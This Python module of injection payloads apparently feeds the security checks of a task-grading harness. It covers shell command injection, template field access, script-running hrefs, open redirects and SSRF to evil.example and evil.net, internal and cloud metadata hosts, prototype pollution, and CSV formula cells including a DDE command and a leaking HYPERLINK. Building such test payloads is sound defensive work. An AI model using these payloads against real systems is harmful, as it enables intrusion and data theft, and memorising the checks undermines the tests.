"""Payloads shared by the checks of many tasks (task.toml: shared_checks = ["payloads.py"]).

One list per family, so a task that runs a shell, fills a template or reads a URL is tried with
every way a careless solution lets input through, not only the ones its own author thought of.
"""

# --- the shell --------------------------------------------------------------------------------
# Each template, read by a POSIX shell, creates the file named by {m} (a name without a slash or
# a space) in the command's working folder; {w} is a word the command may take as a real value
# (a branch name, say), so a payload after && runs too. Beside the usual spaced ones: metacharacters glued to
# the name (an escape of spaces alone leaves them working), quote-escaping a shell does not
# honour inside single quotes (x\' closes the quote), and characters a partial escape list
# forgets (> < ( ) newline).
SHELL = {
    "semicolon-spaced": "{w}; touch {m}",
    "and-spaced": "{w} && touch {m}",
    "subst": "$(touch {m})",
    "backticks": "`touch {m}`",
    "dquote-break": '{w}"; touch {m}; echo "',
    "squote-break": "{w}'; touch {m}; echo '",
    "semicolon-glued": "{w};id>{m}",
    "pipe-glued": "{w}|id>{m}",
    "and-glued": "{w}&&id>{m}",
    "or-glued": "{w}||id>{m}",
    "background-glued": "{w}&id>{m}",
    "redirect-only": "{w}>{m}",
    "subst-glued": "$(id>{m})",
    "backticks-glued": "`id>{m}`",
    "newline": "{w}\nid>{m}",
    "squote-backslash": "{w}';id>{m} #",
    "dquote-glued": '{w}";id>{m} #',
    "dquote-subst": '{w}"$(id>{m})"',
}


def shell(name: str, marker: str, word: str = "x") -> str:
    """The payload `name` of SHELL making the file `marker`, with `word` before it."""
    return SHELL[name].replace("{m}", marker).replace("{w}", word)


# --- template field access ----------------------------------------------------------------------
# Paths a template may try on an object it was given: members that exist but are not data (the
# names a prompt lists, or the data's own properties, are all a template may show), an object's
# repr, and the walks to globals. {o} is the object's name in the template.
TEMPLATE_FIELDS_PY = [
    "{o}",
    "{o!r}",
    "{o!s}",
    "{o.__dict__}",
    "{o.__class__}",
    "{o.__class__.__name__}",
    "{o.__repr__}",
    "{o.__init__.__globals__}",
    "{o.__class__.__mro__}",
]
# The same in a JavaScript template, as dotted paths: members every object inherits.
TEMPLATE_FIELDS_JS = [
    "constructor",
    "constructor.name",
    "__proto__",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "constructor.constructor",
]


def template_fields_py(obj: str) -> list[str]:
    """TEMPLATE_FIELDS_PY for the object named obj."""
    return [t.replace("{o", "{" + obj) for t in TEMPLATE_FIELDS_PY]


# --- values that are not strings -----------------------------------------------------------------
def not_strings(payload: str) -> list[object]:
    """JSON values that are not strings but carry the string payload when converted with String()
    or str(): an escape applied only to strings lets each of them through."""
    return [[payload], ["x", payload], [[payload]], [{"k": payload}, payload]]


# --- URLs a browser reads otherwise -------------------------------------------------------------
# A browser drops tabs and line breaks anywhere in a URL, strips C0 controls and spaces at its
# ends, reads a scheme in any case and a backslash as a slash. Each href below runs script when
# clicked, though a check of the text as written may see another scheme, or none.
SCRIPT_HREFS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript:alert(1)//\nhttp://x.example/",
    "javascript:alert(1)\nhttps://x.example/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
# Each target, used as a redirect's Location from our site, takes the browser to the host
# evil.example, though it starts with a slash, a space or a backslash.
OFFSITE_TARGETS = [
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "\\/evil.example/",
    "/\t/evil.example/",
    "/\n/evil.example/",
    "/\r\n/evil.example/",
    " //evil.example",
    "\t//evil.example",
    "https:evil.example",
    "HTTPS://evil.example/",
]
# --- prototype pollution ---------------------------------------------------------------------------
# JSON texts that, merged key by key into an object, reach Object.prototype (or replace the
# prototype of what they are merged into) through __proto__ or constructor.prototype, at the top
# or nested under keys a stored object already has ("a", "a.b"). {m} is a property name no object
# has; each is parsed with JSON.parse, which keeps "__proto__" as an own key.
PROTO_POLLUTION = [
    '{"__proto__": {"{m}": "polluted"}}',
    '{"a": {"__proto__": {"{m}": "polluted"}}}',
    '{"a": {"b": {"__proto__": {"{m}": "polluted"}}}}',
    '{"constructor": {"prototype": {"{m}": "polluted"}}}',
    '{"a": {"constructor": {"prototype": {"{m}": "polluted"}}}}',
    '{"__proto__": {"__proto__": {"{m}": "polluted"}}}',
    '{"ok": 1, "__proto__": {"{m}": "polluted"}}',
]


def proto_pollution(marker: str) -> list[str]:
    """PROTO_POLLUTION with the property name `marker`."""
    return [p.replace("{m}", marker) for p in PROTO_POLLUTION]


# --- URLs: another host than the text suggests (server-side request forgery) ----------------------
# Each URL's host, as a WHATWG URL parser (node's, fetch's, a browser's) reads it, is evil.net or a
# name under it or ending in it,
# although its text holds an allowed name: {a} is a host name the allowlist names exactly, {d} a
# domain whose subdomains it allows (an entry ".{d}"). Suffixes without a dot before them, user
# info, a backslash (a path separator in http(s) URLs), a fragment or query that names the host.
SSRF_OTHER_HOST = [
    "https://{a}.evil.net/",
    "https://{a}@evil.net/",
    "https://{a}:443@evil.net/",
    "https://{a}%40@evil.net/",
    "https://evil.net/{a}",
    "https://evil.net/?next=https://{a}/",
    "https://evil.net#{a}",
    "https://evil.net#.{d}",
    "https://evil.net\\.{a}/",
    "https://evil.net\\@{a}/",
    "https://evil{d}/",
    "https://evil.net?.{d}",
    "https://{d}.evil.net/",
    "https://evil.net./.{d}",
]
# Hosts inside the network as a URL parser reads them: loopback and the cloud metadata address,
# in the forms an IPv4 address may take (decimal, hex, octal, short), IPv6, and local names.
SSRF_INTERNAL_HOSTS = [
    "127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0", "[::1]", "[::ffff:127.0.0.1]",
    "[0:0:0:0:0:0:0:1]", "169.254.169.254", "[::ffff:a9fe:a9fe]", "10.0.0.1", "localhost", "localhost.",
]


def ssrf_other_host(allowed: str, domain: str) -> list[str]:
    """SSRF_OTHER_HOST for the allowed name `allowed` and the allowed parent domain `domain`."""
    return [u.replace("{a}", allowed).replace("{d}", domain) for u in SSRF_OTHER_HOST]


# --- CSV cells a spreadsheet reads as formulas ----------------------------------------------------
# Values a user may type (a title, a name) that, written into a CSV file, make a cell Excel or
# LibreOffice reads as a formula: a first character of = + - @ tab or CR, a DDE call, a quoted
# HYPERLINK, and values that start a formula cell only if the writer forgets to quote a comma, a
# double quote or a line break (the text after it lands in a cell of its own).
CSV_FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "=cmd|' /C calc'!A0",
    "a,=1+2",
    'a",=1+2',
    "a\n=1+2",
    "a\r\n+1+2",
    "a\r+1+2",
    'a"\n@SUM(1)',
    "=1,=2",
    "-1,+2",
]

# The characters a spreadsheet cell may not begin with, lest it be read as a formula.
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
